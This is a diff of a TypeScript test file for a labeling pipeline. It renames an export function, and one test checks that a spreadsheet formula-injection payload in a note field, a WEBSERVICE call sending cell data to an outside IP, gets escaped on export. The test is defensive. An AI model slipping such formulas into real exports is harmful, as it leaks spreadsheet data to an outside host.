@@ -6,7 +6,7 @@ import { answerAudit, beginAudit } from '../../../../src/pipeline/audit/audit';
 import { measureAudit } from '../../../../src/pipeline/audit/audit-figures';
 import { noteReplaced } from '../../../../src/pipeline/teach/improve-label';
 import { distil } from '../../../../src/pipeline/train/distil';
-import { exportLabels } from '../../../../src/pipeline/files/export-labels';
+import { labelsFile } from '../../../../src/pipeline/files/label-files';
 import { setLabel } from '../../../../src/pipeline/human-labels';
 import { isProjectFile } from '../../../../src/pipeline/files/project/is-project-file';
 import { openProjectFile } from '../../../../src/pipeline/files/project/open-project-file';
@@ -34,7 +34,7 @@ const ignoreProgress = { onProgress: () => undefined };
 async function all(id: string): Promise<object> {
   return {
     project: { ...(await openProject(id)), id: null, updatedAt: null },
-    labels: await (await exportLabels(id)).text(),
+    labels: await (await labelsFile(id)).text(),
     rows: await relabel(id),
     report: await makeReport(id),
     audit: JSON.stringify(await measureAudit(id)),
@@ -336,7 +336,7 @@ describe('a file that is no sound project', () => {
     const mark = { row: 3, isFlagged: true, note: '=WEBSERVICE("http://192.0.2.1/"&A1)' };
     const file = await changed('marks.jsonl', () => `${JSON.stringify(mark)}\n`);
     const { id } = await openProjectFile(file, ignoreProgress);
-    const labels = await (await exportLabels(id)).text();
+    const labels = await (await labelsFile(id)).text();
     expect(labels).toContain(`flagged,"'=WEBSERVICE(`);
     await deleteProject(id);
   });
